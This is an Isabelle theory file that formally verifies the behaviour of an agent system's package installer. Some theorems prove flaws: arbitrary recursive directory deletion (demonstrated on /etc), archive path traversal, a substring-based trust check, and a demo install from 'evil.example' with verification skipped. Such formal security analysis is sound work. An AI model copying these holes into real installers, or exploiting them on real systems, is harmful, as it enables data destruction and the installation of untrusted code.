(* ===== verification/Package_Laws.thy ===== *)
theory Package_Laws
  imports Packages
begin

text \<open>
  What the installation of packages guarantees, and what it does not: the quota, the checks of a source and of a checksum, the
  places that are written and removed, and the trusted keys.  The definitions are in \<open>Packages\<close>.
\<close>

section \<open>The quota\<close>

fun quota_run :: "(nat \<times> string) list \<Rightarrow> install_quota \<Rightarrow> bool list" where
  "quota_run [] q = []"
| "quota_run ((t, u) # cs) q = (case quota_check t u q of (r, q') \<Rightarrow> (\<not> isl r) # quota_run cs q')"

text \<open>The calls of a user, with the verdicts.\<close>

definition admitted :: "string \<Rightarrow> (nat \<times> string) list \<Rightarrow> bool list \<Rightarrow> nat" where
  "admitted u cs oks = length (filter (\<lambda>(c, ok). snd c = u \<and> ok) (zip cs oks))"

definition user_calls :: "string \<Rightarrow> (nat \<times> string) list \<Rightarrow> nat" where
  "user_calls u cs = length (filter (\<lambda>c. snd c = u) cs)"

lemma quota_check_fields: "quota_check t u q = (r, q') \<Longrightarrow> iq_window q' = iq_window q \<and> iq_limit q' = iq_limit q"
  by (auto simp: quota_check_def Let_def split: if_splits)

lemma quota_check_other: "quota_check t v q = (r, q') \<Longrightarrow> u \<noteq> v \<Longrightarrow> hm_get (iq_counters q') u = hm_get (iq_counters q) u"
  by (auto simp: quota_check_def Let_def split: if_splits)

lemma quota_check_within:
  assumes "hm_get (iq_counters q) u = Some (c, s)" and "t - s \<le> iq_window q" and "quota_check t u q = (r, q')"
  shows "\<not> isl r \<longleftrightarrow> c < iq_limit q" and "hm_get (iq_counters q') u = Some (if c < iq_limit q then c + 1 else c, s)"
  using assms by (auto simp: quota_check_def Let_def not_less split: if_splits)

lemma unat_Suc_less: "(c :: u32) < l \<Longrightarrow> unat (c + 1) = Suc (unat c)"
proof -
  assume "c < l"
  then have "unat c + 1 \<le> unat l" by (simp add: word_less_nat_alt)
  moreover have "unat l < 2 ^ LENGTH(32)" by (rule unsigned_less)
  ultimately have "unat c + 1 < 2 ^ 32" by simp
  then show ?thesis by (simp add: unat_word_ariths(1))
qed

lemma admitted_Cons: "admitted u (c # cs) (ok # oks) = (if snd c = u \<and> ok then 1 else 0) + admitted u cs oks"
  by (simp add: admitted_def)

lemma user_calls_Cons: "user_calls u (c # cs) = (if snd c = u then 1 else 0) + user_calls u cs"
  by (simp add: user_calls_def)

lemma quota_run_window:
  assumes "hm_get (iq_counters q) u = Some (c, s)" and "\<forall>(t, v)\<in>set cs. v = u \<longrightarrow> t - s \<le> iq_window q" and "c \<le> iq_limit q"
  shows "admitted u cs (quota_run cs q) = min (unat (iq_limit q) - unat c) (user_calls u cs)"
  using assms
proof (induction cs arbitrary: q c)
  case Nil
  show ?case by (simp add: admitted_def user_calls_def)
next
  case (Cons tv cs)
  obtain t v where tv: "tv = (t, v)" by (cases tv)
  obtain r q' where q': "quota_check t v q = (r, q')" by (cases "quota_check t v q")
  note fields = quota_check_fields [OF q']
  have rest: "\<forall>(t, v)\<in>set cs. v = u \<longrightarrow> t - s \<le> iq_window q'" using Cons.prems(2) fields by auto
  show ?case
  proof (cases "v = u")
    case False
    then have "hm_get (iq_counters q') u = Some (c, s)" using quota_check_other [OF q'] Cons.prems(1) by simp
    from Cons.IH [OF this rest] Cons.prems(3) fields False show ?thesis by (simp add: tv q' admitted_Cons user_calls_Cons)
  next
    case True
    then have near: "t - s \<le> iq_window q" using Cons.prems(2) tv by auto
    note qu = q' [unfolded True]
    note w = quota_check_within [OF Cons.prems(1) near qu]
    show ?thesis
    proof (cases "c < iq_limit q")
      case less: True
      then have "unat (c + 1) = Suc (unat c)" by (rule unat_Suc_less)
      moreover have "unat c < unat (iq_limit q)" using less by (simp add: word_less_nat_alt)
      moreover have "c + 1 \<le> iq_limit q" using calculation by (simp add: word_le_nat_alt)
      moreover have "hm_get (iq_counters q') u = Some (c + 1, s)" using w(2) less by simp
      ultimately show ?thesis using Cons.IH [of q' "c + 1"] rest w(1) less fields
        by (simp add: tv True qu admitted_Cons user_calls_Cons)
    next
      case False
      then have "c = iq_limit q" using Cons.prems(3) by simp
      moreover have "hm_get (iq_counters q') u = Some (c, s)" using w(2) False by simp
      ultimately show ?thesis using Cons.IH [of q' c] rest w(1) False fields
        by (simp add: tv True qu admitted_Cons)
    qed
  qed
qed

text \<open>
  C26. The quota of installations.  Of the calls of one user that fall into a window that starts with the user's first call,
  whatever other users do in between, exactly as many are admitted as the limit allows: the smaller of the limit and their number.
\<close>

theorem install_quota_bound:
  assumes "hm_get (iq_counters q) u = None" and "\<forall>(t, v)\<in>set cs. v = u \<longrightarrow> t0 \<le> t \<and> t \<le> t0 + iq_window q"
  shows "admitted u cs (quota_run cs q) = min (unat (iq_limit q)) (user_calls u cs)"
  using assms
proof (induction cs arbitrary: q)
  case Nil
  show ?case by (simp add: admitted_def user_calls_def)
next
  case (Cons tv cs)
  obtain t v where tv: "tv = (t, v)" by (cases tv)
  obtain r q' where q': "quota_check t v q = (r, q')" by (cases "quota_check t v q")
  note fields = quota_check_fields [OF q']
  show ?case
  proof (cases "v = u")
    case False
    then have "hm_get (iq_counters q') u = None" using quota_check_other [OF q'] Cons.prems(1) by simp
    then show ?thesis using Cons.IH [of q'] Cons.prems(2) fields False by (auto simp: tv q' admitted_Cons user_calls_Cons)
  next
    case True
    define c where "c = (if iq_limit q = 0 then 0 else 1 :: u32)"
    have one: "\<not> isl r \<longleftrightarrow> iq_limit q \<noteq> 0" "hm_get (iq_counters q') u = Some (c, t)"
      using q' True Cons.prems(1) by (auto simp: quota_check_def Let_def c_def split: if_splits)
    have "\<forall>(t', v)\<in>set cs. v = u \<longrightarrow> t' - t \<le> iq_window q'" using Cons.prems(2) fields by (auto simp: tv True)
    moreover have "c \<le> iq_limit q'" using fields by (auto simp: c_def word_le_nat_alt Suc_le_eq unat_gt_0)
    ultimately have "admitted u cs (quota_run cs q') = min (unat (iq_limit q) - unat c) (user_calls u cs)"
      using quota_run_window [OF one(2)] fields by auto
    then show ?thesis using one(1) True unat_gt_0 [of "iq_limit q"]
      by (auto simp: tv q' [unfolded True] admitted_Cons user_calls_Cons c_def)
  qed
qed

theorem install_quota_bound_witness:
  "admitted ''u'' (replicate 12 (5, ''u'')) (quota_run (replicate 12 (5, ''u'')) INSTALL_QUOTA) = 10"
  using install_quota_bound [of INSTALL_QUOTA "''u''" "replicate 12 (5, ''u'')" 5]
  by (simp add: INSTALL_QUOTA_def install_quota_new_def user_calls_def)

section \<open>Admission of an installation\<close>

lemma pkg_check_capability_ok: "pkg_check_capability ctx cap = Inr () \<longleftrightarrow> has_tool (sx_token ctx) cap"
  by (simp add: pkg_check_capability_def)

lemma check_untrusted_ok:
  "check_untrusted_source ctx source = Inr () \<longleftrightarrow> is_official source \<or> has_tool (sx_token ctx) ''install:from-untrusted-source''"
  by (auto simp: check_untrusted_source_def pkg_check_capability_ok)

lemma admit_install_iff:
  "fst (admit_install ctx cap now user params st) = Inr source \<longleftrightarrow>
     has_tool (sx_token ctx) cap \<and> fst (quota_check now user (pks_quota st)) = Inr () \<and> opt_str ''source'' params = Some source \<and>
     (no_verify_flag params \<or> is_official source \<or> has_tool (sx_token ctx) ''install:from-untrusted-source'')"
proof -
  define guard where "guard s = (if no_verify_flag params then Inr () else check_untrusted_source ctx s)" for s
  have guard: "guard s = Inr () \<longleftrightarrow> no_verify_flag params \<or> is_official s \<or> has_tool (sx_token ctx) ''install:from-untrusted-source''" for s
    using check_untrusted_ok [of ctx s] by (simp add: guard_def)
  obtain r q where q: "quota_check now user (pks_quota st) = (r, q)" by (cases "quota_check now user (pks_quota st)")
  have "fst (admit_install ctx cap now user params st) = Inr source \<longleftrightarrow>
      pkg_check_capability ctx cap = Inr () \<and> r = Inr () \<and> opt_str ''source'' params = Some source \<and> guard source = Inr ()"
    unfolding admit_install_def guard_def [symmetric] q
    by (cases "pkg_check_capability ctx cap"; cases r; cases "opt_str ''source'' params")
      (auto split: sum.splits)
  then show ?thesis unfolding guard pkg_check_capability_ok q fst_conv by blast
qed

text \<open>A source is official when the text of the official repository occurs in it anywhere.\<close>

lemma official_by_substring: "is_official (a @ ''github.com/avadhpatel/avix'' @ b)"
  by (auto simp: is_official_def contains_str_iff)

section \<open>What an installed service is\<close>

lemma static_verify_ok:
  "static_verify_checksum env bs expected = Inr () \<Longrightarrow> expected = ''sha256:'' @ pk_sha256 env bs"
  by (auto simp: static_verify_checksum_def Let_def split: option.splits if_splits dest!: split_once_Some)

lemma svc_fetch_scheme:
  "svc_fetch env k source d = Inr bs \<Longrightarrow>
   starts_with source ''file://'' \<or> starts_with source ''https://'' \<or> starts_with source ''http://''"
  by (auto simp: svc_fetch_def Syscalls.strip_prefix_def split: option.splits if_splits)

lemma service_install_success:
  assumes "service_install env k req d = (Inr r, d')"
  shows "\<exists>bs u. svc_fetch env k (isq_source req) d = Inr bs \<and>
     (\<forall>c. isq_checksum req = Some c \<longrightarrow> c = ''sha256:'' @ pk_sha256 env bs) \<and>
     irs_name r = su_name u \<and> irs_version r = su_version u \<and> irs_install_dir r = service_install_dir env u"
proof -
  obtain bs where bs: "svc_fetch env k (isq_source req) d = Inr bs"
    using assms by (auto simp: service_install_def split: sum.splits)
  have ck: "(case isq_checksum req of None \<Rightarrow> Inr () | Some expected \<Rightarrow> static_verify_checksum env bs expected) = Inr ()"
    using assms bs by (auto simp: service_install_def split: sum.splits option.splits)
  obtain tmp d1 where tmp: "pk_tempdir env d = Inr (tmp, d1)"
    using assms bs ck by (auto simp: service_install_def split: sum.splits)
  obtain u d2 where u: "svc_unpacked env bs tmp d1 = (Inr u, d2)"
    using assms bs ck tmp by (auto simp: service_install_def split: sum.splits prod.splits)
  obtain d3 where d3: "move_into_place env tmp (service_install_dir env u) d2 = (Inr (), d3)"
    using assms bs ck tmp u by (auto simp: service_install_def Let_def split: sum.splits prod.splits)
  have "irs_name r = su_name u \<and> irs_version r = su_version u \<and> irs_install_dir r = service_install_dir env u"
    using assms bs ck tmp u d3 by (auto simp: service_install_def Let_def split: sum.splits prod.splits)
  moreover have "c = ''sha256:'' @ pk_sha256 env bs" if "isq_checksum req = Some c" for c
    using ck that static_verify_ok by simp
  ultimately show ?thesis using bs by blast
qed


section \<open>What an uninstallation removes\<close>

text \<open>
  C30. Uninstalling an agent removes any directory.  A caller whose token grants only the installation of agents names an absolute path;
  if it exists, the system call removes it with everything below, wherever on the disk it is.
\<close>

theorem uninstall_agent_any_directory:
  assumes "has_tool (sx_token ctx) ''proc/package/install-agent''" and "starts_with path ''/''"
    and "do_exists (pk_os env) (pks_disk st) path" and "pk_remove_dir_all env (pks_disk st) path = Inr d"
  shows "uninstall_agent env ctx (JObj [(''name'', JStr path)]) st = (Inr (JObj [(''uninstalled'', JStr path)]), st\<lparr> pks_disk := d \<rparr>)"
  using assms by (simp add: uninstall_agent_def pkg_check_capability_def opt_str_def pathbuf_join_def Let_def)

text \<open>By its name an installed agent is not found: its directory also bears the version.\<close>

lemma pathbuf_join_last: "r \<noteq> [] \<Longrightarrow> last (pathbuf_join b r) = last r"
  by (simp add: pathbuf_join_def Memfs.path_join_def)

lemma pathbuf_join_inj: "pathbuf_join b x = pathbuf_join b y \<Longrightarrow> x \<noteq> [] \<Longrightarrow> y \<noteq> [] \<Longrightarrow> hd x \<noteq> CHR ''/'' \<Longrightarrow> hd y \<noteq> CHR ''/'' \<Longrightarrow> x = y"
  by (cases x; cases y) (auto simp: pathbuf_join_def Memfs.path_join_def split: if_splits)

lemma uninstall_by_name_misses:
  assumes "mm_name (am_metadata m) \<noteq> []" and "hd (mm_name (am_metadata m)) \<noteq> CHR ''/''"
  shows "pathbuf_join (scope_dir env scope) (mm_name (am_metadata m)) \<noteq> agent_install_dir env scope m"
  using assms pathbuf_join_inj [of "scope_dir env scope" "mm_name (am_metadata m)" "mm_name (am_metadata m) @ ''@'' @ mm_version (am_metadata m)"]
  by (auto simp: agent_install_dir_def)

section \<open>What an archive writes\<close>

text \<open>An entry that climbs is written outside the directory the archive is unpacked into.\<close>

lemma split_char_single: "c \<notin> set s \<Longrightarrow> split_char c s = [s]"
  by (induction s) auto

lemma rsplit_once_last: "c \<notin> set t \<Longrightarrow> rsplit_once c (s @ c # t) = Some (s, t)"
proof -
  assume "c \<notin> set t"
  then have "c \<notin> set (rev t)" by simp
  moreover have "c \<notin> set r \<Longrightarrow> takeWhile (\<lambda>x. x \<noteq> c) (r @ c # u) = r \<and> dropWhile (\<lambda>x. x \<noteq> c) (r @ c # u) = c # u" for r u
    by (induction r) auto
  ultimately show ?thesis by (simp add: rsplit_once_def)
qed

lemma climbing_components:
  assumes "f \<noteq> []" and "CHR ''/'' \<notin> set f" and "f \<noteq> ''.''"
  shows "path_components (''x/../'' @ f) = [''x'', ''..'', f]"
  using assms split_char_single [OF assms(2)] by (simp add: path_components_def)

lemma archive_entry_escapes:
  assumes "f \<noteq> []" and "CHR ''/'' \<notin> set f" and "f \<noteq> ''.''" and "dest \<noteq> []" and "last dest \<noteq> CHR ''/''"
    and "do_create_dir_all (pk_os env) d (dest @ ''/..'') = Inr d1" and "do_write (pk_os env) d1 (dest @ ''/../'' @ f) data = Inr d2"
  shows "extract_entry env dest \<lparr> tar_path = Inr (''x/../'' @ f), tar_is_file = True, tar_data = Inr data \<rparr> d = (Inr False, d2)"
proof -
  have out: "Memfs.path_join dest (join_str ''/'' [''..'', f]) = dest @ ''/../'' @ f"
    using assms(4,5) by (simp add: Memfs.path_join_def)
  have "last (dest @ ''/../'' @ f) \<noteq> CHR ''/''" using assms(1,2) by (metis append_is_Nil_conv last_appendR last_in_set)
  then have t: "trim_end_char (CHR ''/'') (dest @ ''/../'' @ f) = dest @ ''/../'' @ f"
    by (cases f rule: rev_cases) (use assms(1) in \<open>auto simp: trim_end_char_def\<close>)
  have "rsplit_once (CHR ''/'') ((dest @ ''/..'') @ CHR ''/'' # f) = Some (dest @ ''/..'', f)"
    by (rule rsplit_once_last [OF assms(2)])
  then have "path_parent (dest @ ''/../'' @ f) = Some (dest @ ''/..'')"
    using t assms(4) by (simp add: path_parent_def Let_def) (simp add: trim_end_char_def)
  then show ?thesis using climbing_components [OF assms(1-3)] out assms(6,7) by (simp add: extract_entry_def Let_def)
qed

section \<open>Trusted keys\<close>

text \<open>A disk as a map of files.\<close>

definition disk_files :: "'d disk_ops \<Rightarrow> ('d \<Rightarrow> string \<Rightarrow> bytes option) \<Rightarrow> bool" where
  "disk_files os view \<longleftrightarrow>
     (\<forall>d p c d'. do_write os d p c = Inr d' \<longrightarrow> view d' = (view d)(p \<mapsto> c)) \<and>
     (\<forall>d p c. view d p = Some c \<longrightarrow> do_read os d p = Inr c \<and> do_exists os d p)"

lemma key_meta_differ: "key_path env fp \<noteq> meta_path env fp'"
proof
  assume "key_path env fp = meta_path env fp'"
  then have "last (key_path env fp) = last (meta_path env fp')" by simp
  then show False by (simp add: key_path_def meta_path_def pathbuf_join_last)
qed

text \<open>A key that was added is the one that is found by its fingerprint, with the sources it is trusted for.\<close>

lemma trust_add_get:
  assumes "disk_files (pk_os env) view" and "codec_lawful (pk_keys env)" and "utf8_valid (bytes_of_string key_asc)"
    and "\<And>k y. enc (pk_keys env) k = Inr y \<Longrightarrow> utf8_valid (bytes_of_string y)"
    and "trust_add_key env key_asc label sources d = (Inr key, d')"
  shows "trust_get_key env (tk_fingerprint key) d' = Inr (Some (key_asc, key)) \<and> tk_allowed_sources key = sources"
proof -
  obtain d1 d2 yaml where w: "do_write (pk_os env) d1 (key_path env (tk_fingerprint key)) (bytes_of_string key_asc) = Inr d2"
    "do_write (pk_os env) d2 (meta_path env (tk_fingerprint key)) (bytes_of_string yaml) = Inr d'"
    and yaml: "enc (pk_keys env) key = Inr yaml" and srcs: "tk_allowed_sources key = sources"
    using assms(5) by (auto simp: trust_add_key_def Let_def split: sum.splits if_splits)
  from assms(1) w have "view d' = (view d1)(key_path env (tk_fingerprint key) \<mapsto> bytes_of_string key_asc,
      meta_path env (tk_fingerprint key) \<mapsto> bytes_of_string yaml)"
    unfolding disk_files_def by metis
  then have "view d' (key_path env (tk_fingerprint key)) = Some (bytes_of_string key_asc)"
    "view d' (meta_path env (tk_fingerprint key)) = Some (bytes_of_string yaml)" by (simp_all add: key_meta_differ)
  with assms(1) have "do_read (pk_os env) d' (key_path env (tk_fingerprint key)) = Inr (bytes_of_string key_asc)"
    "do_exists (pk_os env) d' (key_path env (tk_fingerprint key))"
    "do_read (pk_os env) d' (meta_path env (tk_fingerprint key)) = Inr (bytes_of_string yaml)"
    unfolding disk_files_def by blast+
  moreover have "dec (pk_keys env) yaml = Inr key" using assms(2) yaml by (auto simp: codec_lawful_def)
  ultimately show ?thesis using assms(3,4) yaml srcs by (simp add: trust_get_key_def read_text_def)
qed

lemma trust_add_again:
  assumes "do_exists (pk_os env) d1 (key_path env fp)" and "do_create_dir_all (pk_os env) d (trust_dir env) = Inr d1"
    and "pk_fingerprint env key_asc = Inr fp"
  shows "trust_add_key env key_asc label sources d = (Inl (ConfigParse (''key already trusted: '' @ fp)), d1)"
  using assms by (simp add: trust_add_key_def extract_fingerprint_def)

text \<open>A signature is accepted on behalf of a trusted key only for a source the key is trusted for, and when it verifies under
  the key stored for its issuer.\<close>

lemma trusted_signature_sound:
  assumes "pkg_verify_signature pgp env data sig_asc source d = Inr (VerifiedTrusted meta)"
  shows "\<exists>sig fp key_asc pubkey. pg_sig pgp sig_asc = Inr sig \<and> pg_issuer pgp sig = Some fp \<and>
     trust_get_key env fp d = Inr (Some (key_asc, meta)) \<and> allows_source meta source \<and> pg_key pgp key_asc = Inr pubkey \<and>
     pg_verify pgp sig pubkey data = Inr ()"
  using assms by (auto simp: pkg_verify_signature_def split: sum.splits option.splits if_splits)

section \<open>A concrete installation\<close>

definition demo_service_manifest :: service_manifest where
  "demo_service_manifest =
     \<lparr> sman_api_version = ''avix/v1'', sman_kind = ''Service'',
       sman_metadata = \<lparr> mm_name = ''db'', mm_version = ''1'', mm_description = [], mm_author = [], mm_license = None, mm_tags = [], mm_created_at = None \<rparr>,
       sman_packaging = \<lparr> pkm_source = None, pkm_signature = None \<rparr>,
       sman_spec = \<lparr> spc_binary = ''bin/db'', spc_language = ''any'', spc_restart = OnFailure, spc_restart_delay = ''5s'', spc_max_concurrent = 20,
         spc_queue_max = 100, spc_queue_timeout = ''5s'', spc_run_as = RunAsService, spc_requires = [], spc_after = [],
         spc_capabilities = \<lparr> cs_required = [], cs_scope = None, cs_host_access = [], cs_caller_scoped = False \<rparr>,
         spc_tools = \<lparr> tsx_namespace = ''db'', tsx_provides = [] \<rparr>, spc_jobs = \<lparr> jbs_max_active = 1, jbs_job_timeout = ''1s'', jbs_persist = False \<rparr> \<rparr> \<rparr>"

definition demo_pkg_env :: "(unit, unit) pkg_env" where
  "demo_pkg_env =
     \<lparr> pk_root = ''/r'',
       pk_os = \<lparr> do_read = (\<lambda>_ _. Inr []), do_create_dir_all = (\<lambda>d _. Inr d), do_write = (\<lambda>d _ _. Inr d), do_remove = (\<lambda>d _. Inr d),
                 do_exists = (\<lambda>_ p. p = ''/etc''), do_read_dir = (\<lambda>_ _. Inr []) \<rparr>,
       pk_is_dir = (\<lambda>_ _. True), pk_remove_dir_all = (\<lambda>d _. Inr d), pk_rename = (\<lambda>d _ _. Inr d), pk_chmod_755 = (\<lambda>d _. Inr d),
       pk_tempdir = (\<lambda>d. Inr (''/t'', d)), pk_client = None, pk_get = (\<lambda>_ _. HttpBody []), pk_json = (\<lambda>_. Inl []), pk_text = (\<lambda>_. []),
       pk_sha256 = (\<lambda>_. ''00''),
       pk_untar = (\<lambda>_ _. Inr [Inr \<lparr> tar_path = Inr ''p/manifest.yaml'', tar_is_file = True, tar_data = Inr [] \<rparr>]),
       pk_git = (\<lambda>d _ _. (GitExit (Some 0) True, d)), pk_git_code = (\<lambda>_. []), pk_unit = (\<lambda>_. Inr demo_service_manifest),
       pk_agent = (\<lambda>_. Inl []), pk_kind = (\<lambda>_. Inl []), pk_receipt = (\<lambda>_. Inr []), pk_keys = \<lparr> enc = (\<lambda>_. Inl []), dec = (\<lambda>_. Inl []) \<rparr>,
       pk_fingerprint = (\<lambda>_. Inl []), pk_now = 0, pk_rfc3339 = (\<lambda>_. []), pk_platform = ''linux'', pk_arch = ''x86_64'' \<rparr>"

definition pkg_token_ctx :: "string list \<Rightarrow> syscall_context" where
  "pkg_token_ctx caps = \<lparr> sx_caller_pid = 9, sx_token = \<lparr> granted_tools = caps, issued_at = 0, expires_at = 0, issued_to_opt = None, signature = [] \<rparr> \<rparr>"

definition demo_pkg_params :: json where
  "demo_pkg_params = JObj [(''source'', JStr ''https://evil.example/db.tgz''), (''no_verify'', JBool True), (''checksum'', JStr ''sha256:00'')]"

lemma demo_unpack:
  "resolve_source demo_pkg_env ''https://evil.example/db.tgz'' v = Inr (HttpUrl ''https://evil.example/db.tgz'')"
  "fetch_source_bytes demo_pkg_env (HttpUrl u) () = Inr []"
  "service_install demo_pkg_env k \<lparr> isq_source = ''https://evil.example/db.tgz'', isq_checksum = Some ''sha256:00'', isq_autostart = b \<rparr> () =
     (Inr \<lparr> irs_name = ''db'', irs_version = ''1'', irs_install_dir = ''/r/data/services/db@1'',
            irs_receipt_path = ''/r/data/services/db@1/.install.json'', irs_tools = [] \<rparr>, ())"
proof -
  let ?env = demo_pkg_env
  show "resolve_source ?env ''https://evil.example/db.tgz'' v = Inr (HttpUrl ''https://evil.example/db.tgz'')"
    by (simp add: resolve_source_def Syscalls.strip_prefix_def)
  show "fetch_source_bytes ?env (HttpUrl u) () = Inr []" by (simp add: fetch_source_bytes_def http_bytes_def demo_pkg_env_def)
  have dir: "service_install_dir ?env (from_manifest demo_service_manifest) = ''/r/data/services/db@1''"
    by (simp add: service_install_dir_def services_dir_def pathbuf_join_def Memfs.path_join_def demo_pkg_env_def from_manifest_def
        demo_service_manifest_def Let_def)
  have fields: "pk_untar ?env xz bs = Inr [Inr \<lparr> tar_path = Inr ''p/manifest.yaml'', tar_is_file = True, tar_data = Inr [] \<rparr>]"
    "do_create_dir_all (pk_os ?env) d p = Inr ()" "do_write (pk_os ?env) d p c = Inr ()" "do_read (pk_os ?env) d p = Inr []"
    "pk_unit ?env y = Inr demo_service_manifest" "do_exists (pk_os ?env) d p \<longleftrightarrow> p = ''/etc''" for xz bs d p c y
    by (simp_all add: demo_pkg_env_def)
  have "path_components ''p/manifest.yaml'' = [''p'', ''manifest.yaml'']" by (simp add: path_components_def)
  then have "extract_entry ?env ''/t'' \<lparr> tar_path = Inr ''p/manifest.yaml'', tar_is_file = True, tar_data = Inr [] \<rparr> () = (Inr True, ())"
    by (simp add: extract_entry_def fields Let_def split: option.splits)
  then have "extract_tarball ?env [] ''/t'' () = (Inr (), ())" by (simp add: extract_tarball_def fields)
  then have "svc_unpacked ?env [] ''/t'' () = (Inr (from_manifest demo_service_manifest), ())"
    by (simp add: svc_unpacked_def unit_load_def read_text_def utf8_valid.simps [of "[]"] check_conflicts_def dir fields)
  moreover have "svc_fetch ?env k ''https://evil.example/db.tgz'' () = Inr []"
    by (simp add: svc_fetch_def Syscalls.strip_prefix_def http_bytes_def demo_pkg_env_def)
  moreover have "static_verify_checksum ?env [] ''sha256:00'' = Inr ()"
    by (simp add: static_verify_checksum_def split_once_def demo_pkg_env_def)
  moreover have "pk_tempdir ?env () = Inr (''/t'', ())" by (simp add: demo_pkg_env_def)
  moreover have "move_into_place ?env ''/t'' x () = (Inr (), ())" "write_receipt ?env req u () = (Inr (), ())" for x req u
    by (simp_all add: move_into_place_def write_receipt_def demo_pkg_env_def)
  ultimately show "service_install ?env k
      \<lparr> isq_source = ''https://evil.example/db.tgz'', isq_checksum = Some ''sha256:00'', isq_autostart = b \<rparr> () =
     (Inr \<lparr> irs_name = ''db'', irs_version = ''1'', irs_install_dir = ''/r/data/services/db@1'',
            irs_receipt_path = ''/r/data/services/db@1/.install.json'', irs_tools = [] \<rparr>, ())"
    by (simp add: service_install_def dir Let_def)
      (simp add: from_manifest_def demo_service_manifest_def pathbuf_join_def Memfs.path_join_def Let_def)
qed


theorem uninstall_agent_any_directory_witness:
  "uninstall_agent demo_pkg_env (pkg_token_ctx [''proc/package/install-agent'']) (JObj [(''name'', JStr ''/etc'')])
       \<lparr> pks_quota = INSTALL_QUOTA, pks_disk = () \<rparr> =
     (Inr (JObj [(''uninstalled'', JStr ''/etc'')]), \<lparr> pks_quota = INSTALL_QUOTA, pks_disk = () \<rparr>)"
  using uninstall_agent_any_directory [of "pkg_token_ctx [''proc/package/install-agent'']" "''/etc''" demo_pkg_env
      "\<lparr> pks_quota = INSTALL_QUOTA, pks_disk = () \<rparr>" "()"]
  by (simp add: pkg_token_ctx_def has_tool_def demo_pkg_env_def)

end
